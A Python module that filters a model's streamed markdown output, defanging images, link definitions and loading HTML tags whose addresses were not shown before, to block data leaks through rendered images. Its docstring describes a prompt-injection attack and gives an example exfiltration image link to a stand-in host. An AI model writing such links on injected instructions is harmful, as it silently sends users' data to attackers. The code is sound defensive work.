"""Keeps an answer from making the reader's browser send something: what loads by itself, loads only what was shown.

A model that obeys a stranger's text can write `![](https://evil.test/?what-it-knows)`; whoever shows the answer as
markdown fetches that at once, without a click. So once untrusted content is in the run, in the text that streams out

    ![alt](address)     stays an image only if the address was shown before, word for word; else `! [alt](address)`
    [label]: address    the same, for images that name a label; else `[label] : address`
    <tag ...>           becomes `< tag ...>`, but for tags without attributes inside a line; addresses in <> stay

One space each, so that the text reads on and copies on. Links stay links: they need a click. Code is left alone where
every reader of markdown takes it for code. Pure; however the text is cut, the result is the same.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Callable

_SPECIAL: Final = re.compile(r"[!\[\]<`~\n\\]")
_ADDRESS: Final = r"https?://[^\s()<>\"']{1,2000}"
_ALT: Final = r"!\[[^\[\]\n]{0,300}"
_IMAGE: Final = re.compile(rf"{_ALT}\](?:\(({_ADDRESS})(?: \"[^\"\n]{{0,200}}\")?\)|(?=[^(]))")
_IMAGE_BEGUN: Final = re.compile(
    rf"!(?:{_ALT[1:]}(?:\](?:\((?:[a-z:/]{{0,8}}|{_ADDRESS}(?: \"[^\"\n]{{0,200}}\"?| ?))?)?)?)?\Z"
)
_DEFINITION: Final = re.compile(r"\]:\s{0,20}<?([^\s<>]{1,2000})>?\s")
_DEFINITION_BEGUN: Final = re.compile(r"\](?::\s{0,20}<?(?:[^\s<>]{1,2000}>?)?)?\Z")
_AUTOLINK: Final = re.compile(r"<(?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*|[\w.+\-]+@[\w.\-]+)>")
_BARE_TAG: Final = re.compile(r"</?([A-Za-z][A-Za-z0-9]*) ?/?>")
_TAG_BEGUN: Final = re.compile(r"<(?:[A-Za-z/][^\s<>]{0,2000}(?: /?)?)?\Z")
_TAG: Final = re.compile(r"<[A-Za-z/!?]")
_LOADING: Final = frozenset(
    (
        *("audio", "base", "body", "embed", "form", "frame", "frameset", "head", "html", "iframe", "image", "img"),
        *("input", "link", "math", "meta", "noscript", "object", "picture", "plaintext", "script", "source", "style"),
        *("svg", "template", "textarea", "title", "track", "video", "xmp"),
    )
)
"""Tags that load something, or change how what follows is read, without any attribute."""
_OPENING: Final = re.compile(r"(`{3,63})[^`|\n]{0,200}\n|(~{3,63})[^~|\n]{0,200}\n")
"""A fence without a bar in its line, which some take for a row of a table."""
_OPENING_BEGUN: Final = re.compile(r"(?:`{1,2}|`{3,63}[^`|\n]{0,200}|~{1,2}|~{3,63}[^~|\n]{0,200})\Z")
_CLOSING: Final = re.compile(r" {0,3}(`{3,63}|~{3,63})[ \t]{0,63}(?:\n|\Z)")
_CLOSING_BEGUN: Final = re.compile(r" {0,3}(?:`{0,63}|~{0,63})[ \t]{0,63}\Z")
_CLOSING_LONG: Final = re.compile(r" {0,3}(?:(?:`{3,63}|~{3,63})[ \t]{64}|`{64}|~{64})")
"""What may end code, and is too long to wait for its end."""
_SPAN_MAX: Final = 200
_RUN_MAX: Final = 64
"""Backticks that are looked at as one."""
_PREFIX: Final = frozenset(" \t>*+-.)0123456789")


class ImageGuard:
    """The text of one answer on its way out."""

    def __init__(self, shown: Callable[[str], bool], active: Callable[[], bool]) -> None:
        """`shown`: was this address shown before? `active`: is anything untrusted in the run by now?"""
        self._shown = shown
        self._active = active
        self._held = ""
        self._out: list[str] = []
        self._fence = ""
        self._doubtful = False
        """A fence was seen of which readers differ; from there on no fence counts as code."""
        self._loose = False
        """Backticks stand alone in this paragraph; what is code in it, readers may see otherwise."""
        self._escaped = False
        self._start_line()

    def feed(self, text: str) -> str:
        """Take a piece of the answer and return what can be shown now."""
        return self._run(text, final=False)

    def end(self) -> str:
        """Return the rest."""
        return self._run("", final=True)

    def _start_line(self) -> None:
        self._new_line = self._empty = self._prefix = True
        self._word = self._label = False

    def _run(self, text: str, *, final: bool) -> str:
        self._held += text
        at = 0
        while at < len(self._held):
            stop = self._in_code(at, final=final) if self._fence else self._in_prose(at, final=final)
            if stop < 0:
                break
            at = stop
        self._held = self._held[at:]
        shown = "".join(self._out)
        self._out.clear()
        return shown

    def _in_code(self, at: int, *, final: bool) -> int:
        """Go on to the end of this line of code; only a line that may close the fence is held back."""
        held = self._held
        if self._new_line:
            closing = _CLOSING.match(held, at)
            if closing is not None and (closing[0].endswith("\n") or final):
                if closing[1].startswith(self._fence):
                    self._fence = ""
                self._out.append(closing[0])
                return closing.end()
            if not final and _CLOSING_BEGUN.match(held, at):
                return -1
            if _CLOSING_LONG.match(held, at):
                self._fence, self._doubtful = "", True
                return at
        line = held.find("\n", at)
        stop = len(held) if line < 0 else line + 1
        self._out.append(held[at:stop])
        self._new_line = line >= 0
        return stop

    def _in_prose(self, at: int, *, final: bool) -> int:
        held = self._held
        special = _SPECIAL.search(held, at)
        if special is None or special.start() > at:
            stop = len(held) if special is None else special.start()
            self._text(held[at:stop])
            return stop
        char = held[at]
        if self._escaped or char in "\n\\":
            self._walk_plain(char)
            return at + 1
        if char in "`~":
            return self._at_run(at, final=final)
        if char == "!":
            return self._at_image(at, final=final)
        if char == "<":
            return self._at_tag(at, final=final)
        if char == "]" and self._label:
            return self._at_definition(at, final=final)
        self._label = char == "[" and self._prefix
        self._text(char)
        return at + 1

    def _walk_plain(self, char: str) -> None:
        """Show an escaped character, a backslash, or the end of a line."""
        if char == "\n":
            label = self._label and not self._empty
            self._loose = self._loose and not self._empty
            self._out.append(char)
            self._escaped = False
            self._start_line()
            self._label = label
            return
        escaped = self._escaped
        self._text(char)
        self._escaped = char == "\\" and not escaped

    def _text(self, text: str) -> None:
        """Show text that is no markup by itself."""
        self._out.append(text)
        self._escaped = self._new_line = False
        self._empty = self._empty and text.isspace()
        if self._prefix and not _PREFIX.issuperset(text):
            self._prefix = False
        if not self._word:
            self._word = any(char.isalpha() or char == "|" for char in text)

    def _at_run(self, at: int, *, final: bool) -> int:
        """Decide on backticks or tildes: a fence, code inside a line, or mere characters."""
        held = self._held
        if self._new_line and not self._doubtful:
            opening = _OPENING.match(held, at)
            if opening is not None:
                self._fence = opening[1] or opening[2]
                self._out.append(opening[0])
                self._start_line()
                return opening.end()
            if not final and _OPENING_BEGUN.match(held, at):
                return -1
        run = held[at : at + _RUN_MAX]
        run = run[: len(run) - len(run.lstrip(held[at]))]
        if at + len(run) == len(held) and len(run) < _RUN_MAX and not final:
            return -1
        if len(run) >= 3 and self._prefix:  # noqa: PLR2004 - markdown's number
            self._doubtful = True
        stop = at + len(run)
        if run[0] == "`" and not self._loose:
            end = self._span_end(stop, run, final=final)
            if end < 0:
                return -1
            self._loose = end == stop
            stop = end
        self._text(held[at:stop])
        return stop

    def _span_end(self, start: int, run: str, *, final: bool) -> int:
        """Return where code inside a line ends, `start` if there is none, -1 if that is not known yet."""
        held = self._held
        line = held.find("\n", start, start + _SPAN_MAX)
        reach = line if line >= 0 else min(len(held), start + _SPAN_MAX)
        for closing in re.finditer("`+", held[start:reach]):
            end = start + closing.end()
            if end == len(held) and not final:
                return -1
            if closing[0] == run and held[end : end + 1] != "`":
                return start if "|" in held[start:end] else end
        return start if final or line >= 0 or reach == start + _SPAN_MAX else -1

    def _at_image(self, at: int, *, final: bool) -> int:
        held = self._held
        image = _IMAGE.match(held, at)
        if image is None and not final and _IMAGE_BEGUN.match(held, at):
            return -1
        self._text("!")
        if not held.startswith("![", at):
            return at + 1
        stays = image is not None and (image[1] is None or self._shown(image[1]))
        if self._active() and not (stays or (final and image is None and _is_open(held, at))):
            self._out.append(" ")
        return at + 1

    def _at_definition(self, at: int, *, final: bool) -> int:
        held = self._held
        definition = _DEFINITION.match(held if not final else f"{held}\n", at)
        if definition is None and not final and _DEFINITION_BEGUN.match(held, at):
            return -1
        self._label = False
        self._text("]")
        if held.startswith(":", at + 1) and self._active() and not (definition and self._shown(definition[1])):
            self._out.append(" ")
        return at + 1

    def _at_tag(self, at: int, *, final: bool) -> int:
        held = self._held
        link = _AUTOLINK.match(held, at)
        if link is not None:
            self._text(link[0])
            return link.end()
        tag = _BARE_TAG.match(held, at)
        if tag is not None and self._word and tag[1].lower() not in _LOADING:
            self._text(tag[0])
            return tag.end()
        if tag is None and not final and _TAG_BEGUN.match(held, at):
            return -1
        self._text("<")
        if _TAG.match(held, at) and self._active():
            self._out.append(" ")
        return at + 1


def _is_open(held: str, at: int) -> bool:
    """Whether an image was begun and the text ends before its address does: it is none then."""
    return ")" not in held[at:]
